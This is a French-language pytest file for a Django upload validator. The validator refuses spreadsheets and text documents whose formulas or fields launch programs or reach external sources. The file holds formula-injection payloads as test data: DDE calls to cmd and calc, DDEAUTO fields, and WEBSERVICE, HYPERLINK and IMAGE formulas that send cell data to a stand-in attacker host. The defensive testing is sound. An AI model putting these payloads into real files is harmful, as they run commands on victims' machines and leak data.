"""Spreadsheet evidence (CSV, XLSX, ODS) whose formulas call a program or an external
source (DDE, web services, hyperlinks, external links) is refused at upload with a clear
message; ordinary formulas and text pass. Each evidence file is then served as an
attachment with the type found at upload."""

import io
import zipfile

import pytest
import xlsxwriter
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile

from applications.downloads import evidence_response
from applications.evidence import EvidenceRejected, inspect_upload
from applications.models import Evidence

from ..factories import ApplicationFactory

DDE_PAYLOADS = [
    ("=cmd|' /C calc'!A0", "DDE"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "DDE"),
    ("+cmd|' /C notepad'!'A1'", "DDE"),
    ("-2+3+cmd|' /C calc'!A0", "DDE"),
    ("=msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "DDE"),
    ('=HYPERLINK("http://attaquant.test/?v="&A1;"Cliquez ici")', "HYPERLINK"),
    ('=WEBSERVICE("http://attaquant.test/"&A1)', "WEBSERVICE"),
    ('=IMPORTXML(CONCAT("http://attaquant.test/?v=";A1);"//a")', "IMPORTXML"),
    ('=DDE("cmd";"/C calc";"A0")', "DDE"),
    ('=IMAGE("http://attaquant.test/pixel.png")', "IMAGE"),
    ('=CALL("kernel32";"WinExec";"JCJ";"calc";0)', "CALL"),
    ('=rtd("srv.prog";;"x")', "RTD"),
]
HARMLESS_FORMULAS = ["=SUM(A1:A3)", "=A1*2", '=IF(A1>0;"oui";"non")', "-12", "@commentaire"]


def reason(data: bytes, name: str) -> str:
    with pytest.raises(EvidenceRejected) as caught:
        inspect_upload(SimpleUploadedFile(name, data), name=name)
    return caught.value.message


def accepted(data: bytes, name: str):
    return inspect_upload(SimpleUploadedFile(name, data), name=name)


# --- CSV -----------------------------------------------------------------------------------


def csv_bytes(cell: str, *, quoted: bool = False, separator: str = ";") -> bytes:
    value = '"' + cell.replace('"', '""') + '"' if quoted else cell
    return f"site{separator}montant\nVillefranche{separator}{value}\n".encode()


@pytest.mark.parametrize(("payload", "what"), DDE_PAYLOADS)
@pytest.mark.parametrize("quoted", [False, True])
def test_csv_with_a_formula_calling_outside_is_refused(payload, what, quoted):
    message = reason(csv_bytes(payload, quoted=quoted), "budget.csv")
    assert message.startswith("Le fichier « budget.csv » est refusé : il contient des formules")
    assert f"({what})" in message and "valeurs seules" in message


@pytest.mark.parametrize(
    "data",
    [
        b"=cmd|' /C calc'!A0\n",  # first cell of the file
        b"a,b\n1,\t=cmd|' /C calc'!A0\n",  # comma separator, tab before the formula
        'a\tb\n1\t\uff1dWEBSERVICE("http://x.test")\n'.encode(),  # tab, full-width =
        'montant;b\r\n1; "=HYPERLINK(""http://x.test"")"\r\n'.encode("cp1252"),
        b'\xef\xbb\xbfa;b\n1;=webservice("http://x.test")\n',  # BOM, lower case
    ],
)
def test_csv_variants_are_refused(data):
    assert "il contient des formules" in reason(data, "export.csv")


def test_a_formula_split_across_read_chunks_is_found():
    filler = b"ligne;" + b"x" * 100 + b"\n"
    data = filler * 700 + b'a;=WEBSERVICE("http://x.test")\n'  # past 64 KiB
    assert len(data) > 64 * 1024
    assert "(WEBSERVICE)" in reason(data, "long.csv")


@pytest.mark.parametrize("cell", HARMLESS_FORMULAS)
def test_csv_with_ordinary_formulas_or_text_is_accepted(cell):
    inspected = accepted(csv_bytes(cell), "budget.csv")
    assert inspected.content_type == "text/csv; charset=utf-8"


def test_text_mentioning_a_function_outside_a_formula_is_accepted():
    data = "note;lien\n1;données : voir HYPERLINK(x) et cmd|a!b dans le guide\n".encode()
    assert accepted(data, "notes.csv").extension == "csv"


# --- XLSX (written by xlsxwriter, as a spreadsheet program would) ----------------------------


def xlsx_bytes(formula: str | None = None, *, text: str = "Villefranche") -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet("Budget")
    sheet.write_string(0, 0, text)
    sheet.write_number(1, 0, 12)
    if formula is not None:
        sheet.write_formula(2, 0, formula)
    workbook.close()
    return buffer.getvalue()


@pytest.mark.parametrize(("payload", "what"), DDE_PAYLOADS)
def test_xlsx_with_a_formula_calling_outside_is_refused(payload, what):
    formula = payload if payload.startswith("=") else "=" + payload
    message = reason(xlsx_bytes(formula.replace(";", ",")), "budget.xlsx")
    assert "il contient des formules" in message and f"({what})" in message


def test_xlsx_with_ordinary_formulas_and_dangerous_looking_text_is_accepted():
    data = xlsx_bytes("=SUM(A1:A2)*2", text="=cmd|' /C calc'!A0")  # a string, not a formula
    assert accepted(data, "budget.xlsx").extension == "xlsx"


def test_xlsx_with_an_external_link_part_is_refused():
    data = xlsx_bytes("=A2")
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr(
            "xl/externalLinks/externalLink1.xml",
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/>'
            b"</ddeItems></ddeLink></externalLink>",
        )
    assert "(liaison externe)" in reason(buffer.getvalue(), "budget.xlsx")


def test_xlsx_sheet_with_an_entity_bomb_is_refused_as_unreadable():
    data = xlsx_bytes("=A2")
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            body = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = (
                    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>'
                    b"<worksheet><sheetData><row><c><f>&a;</f></c></row></sheetData></worksheet>"
                )
            target.writestr(info, body)
    assert "illisible ou endommagé" in reason(buffer.getvalue(), "budget.xlsx")


# --- ODS (a minimal package: mimetype, manifest and content.xml) ---------------------------

ODS_TYPE = "application/vnd.oasis.opendocument.spreadsheet"
ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def ods_bytes(cells: str) -> bytes:
    content = (
        f'<office:document-content {ODS_NS} office:version="1.3"><office:body>'
        f'<office:spreadsheet><table:table table:name="Budget">{cells}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", ODS_TYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
            'manifest:1.0"/>',
        )
        archive.writestr("content.xml", content.encode())
    return buffer.getvalue()


def ods_formula(formula: str) -> str:
    escaped = formula.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    return (
        f'<table:table-row><table:table-cell table:formula="of:{escaped}" '
        'office:value-type="float" office:value="0"/></table:table-row>'
    )


@pytest.mark.parametrize(("payload", "what"), DDE_PAYLOADS)
def test_ods_with_a_formula_calling_outside_is_refused(payload, what):
    message = reason(ods_bytes(ods_formula(payload)), "budget.ods")
    assert "il contient des formules" in message and f"({what})" in message


def test_ods_with_a_dde_link_element_is_refused():
    cells = (
        '<table:table-row><table:table-cell><table:cell-range-source table:name="x" '
        'xlink:href="file:///C:/secret.ods" table:filter-name="calc8" '
        'table:last-column-spanned="1" table:last-row-spanned="1"/>'
        "</table:table-cell></table:table-row>"
    )
    assert "(liaison externe)" in reason(ods_bytes(cells), "budget.ods")


def test_ods_with_ordinary_formulas_and_text_is_accepted():
    cells = ods_formula("=SUM([.A1:.A3])") + (
        "<table:table-row><table:table-cell><text:p>=cmd|' /C calc'!A0</text:p>"
        "</table:table-cell></table:table-row>"
    )
    assert accepted(ods_bytes(cells), "budget.ods").content_type == ODS_TYPE


# --- Served as attachments with the type found at upload ----------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("budget.csv", b"a;b\n1;=SUM(A1)\n", "text/csv; charset=utf-8"),
        ("budget.xlsx", None, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("budget.ods", None, ODS_TYPE),
    ],
)
def test_spreadsheets_are_served_as_attachments_with_their_type(name, data, expected):
    data = data or (xlsx_bytes("=A2") if name.endswith("xlsx") else ods_bytes(ods_formula("=1")))
    inspected = accepted(data, name)
    evidence = Evidence.objects.create(
        application=ApplicationFactory(),
        file=ContentFile(data, name=name),
        original_name=inspected.safe_name,
        content_type=inspected.content_type,
        size=inspected.size,
        sha256=inspected.sha256,
    )
    response = evidence_response(evidence)
    assert response["Content-Type"] == expected
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == data


# --- DDE fields of text documents (DOCX, ODT) -----------------------------------------------

DOCX_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCX_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)


def docx_bytes(runs: str) -> bytes:
    document = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p>{runs}</w:p></w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("_rels/.rels", DOCX_RELS)
        archive.writestr("word/document.xml", document)
    return buffer.getvalue()


def field(code: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


@pytest.mark.parametrize(
    "runs",
    [
        field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
        field(" DDE ") + field('"c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc" "x"'),
        # The field code split over two runs.
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText>'
        '</w:r><w:r><w:instrText>EAUTO cmd "/c calc"</w:instrText></w:r>',
        '<w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r>'
        "</w:fldSimple>",
    ],
)
def test_docx_with_a_dde_field_is_refused(runs):
    assert "(DDE)" in reason(docx_bytes(runs), "note.docx")


def test_docx_with_ordinary_fields_is_accepted():
    runs = (
        field(" PAGE ") + field(' HYPERLINK "https://sante.gouv.fr" ') + "<w:r><w:t>DDE</w:t></w:r>"
    )
    assert accepted(docx_bytes(runs), "note.docx").extension == "docx"


def test_odt_with_a_dde_connection_is_refused():
    content = (
        f'<office:document-content {ODS_NS} office:version="1.3"><office:body><office:text>'
        '<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A0"/>'
        "</text:dde-connection-decls></office:text></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED
        )
        archive.writestr("content.xml", content)
    assert "(liaison externe)" in reason(buffer.getvalue(), "note.odt")
